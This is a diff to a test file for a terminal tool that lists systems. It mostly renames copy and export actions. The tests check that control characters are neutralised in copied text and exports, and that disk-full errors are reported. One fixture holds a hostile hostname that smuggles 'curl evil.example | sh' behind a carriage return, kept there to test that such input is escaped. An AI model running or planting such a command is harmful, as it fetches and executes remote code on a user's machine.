@@ -55,8 +55,8 @@ test('N5, N6: exported files and what is copied hold them made visible, and one 
   await user.goesTo('curl');
   user.presses('copy: name, id');
   await user.sees(row('▌', 'name'));
-  user.presses('send it to your terminal');
-  await user.sees('Sent to your terminal: web-1␍curl');
+  user.presses('copy it');
+  await user.sees('Copied through your terminal: web-1␍curl');
   expect(copied(user.terminal.raw())).toEqual(['web-1␍curl evil.example | sh␊']);
   user.presses('mark all matching systems');
   await user.sees('2 marked');
@@ -64,15 +64,15 @@ test('N5, N6: exported files and what is copied hold them made visible, and one 
   await user.sees('names of the 2 marked');
   user.presses('next', 4);
   await user.sees(row('▌', 'names of the 2 marked'));
-  user.presses('send it to your terminal');
-  await user.sees('Sent to your terminal: 2 lines');
+  user.presses('copy it');
+  await user.sees('Copied through your terminal: 2 lines');
   const names = copied(user.terminal.raw()).at(-1) ?? '';
   expect(names.split('\n')).toHaveLength(3);
   expect(names).not.toMatch(/[\r\u007f-\u009f\u200b\u202e]/);
 
   user.presses('export to CSV and JSON');
   await user.sees('the marked: 2 systems');
-  user.presses('write the marked');
+  user.presses('write marked systems');
   await user.sees('Written:');
   const files = readdirSync(home.path).filter((name) => name.startsWith('rollcall-systems-'));
   expect(files).toHaveLength(2);
@@ -96,7 +96,7 @@ test('N6: a secret with characters that a shell acts on is not copied, and that 
   await user.rests();
   user.presses('create the key');
   await user.sees('Enrolment key created');
-  user.presses('send the secret to the clipboard');
+  user.presses('copy the secret');
   await user.sees('Not copied: the secret holds control or invisible characters. v shows it.');
   expect(copied(user.terminal.raw())).toEqual([]);
 });
@@ -126,7 +126,7 @@ test('N11: where not even what is half can be removed, that is said, and no seco
   await user.sees('200 systems');
   user.presses('export to CSV and JSON');
   await user.sees('those shown: 200 systems');
-  user.presses('write those shown');
+  user.presses('write shown systems');
   await user.sees(/Not exported: writing (CSV|JSON) failed \(ENOSPC\)\. A part is left: remove it\./);
   expect(readdirSync(home.path).some((name) => name.startsWith('rollcall-systems'))).toBe(true);
   await user.leaves();
@@ -139,7 +139,7 @@ describe.runIf(canMount)('N11: on a disk on which little fits', () => {
       const { home, user, disk } = await aUserOnASmallDisk(left);
       user.presses('export to CSV and JSON');
       await user.sees('those shown: 200 systems');
-      user.presses('write those shown');
+      user.presses('write shown systems');
       await user.sees('Written:');
       expect(readdirSync(disk)).toEqual(['filling']);
       const files = readdirSync(home.runsFolder);
@@ -154,7 +154,7 @@ describe.runIf(canMount)('N11: on a disk on which little fits', () => {
     const { home, user, disk } = await aUserOnASmallDisk(40, 'state');
     user.presses('export to CSV and JSON');
     await user.sees('those shown: 200 systems');
-    user.presses('write those shown');
+    user.presses('write shown systems');
     await user.sees('Not exported: writing JSON failed (ENOSPC). No part is left.');
     expect(readdirSync(disk).sort()).toEqual(['filling', 'state']);
     expect(home.filesWith('"hostname": "web-1"')).toEqual([]);
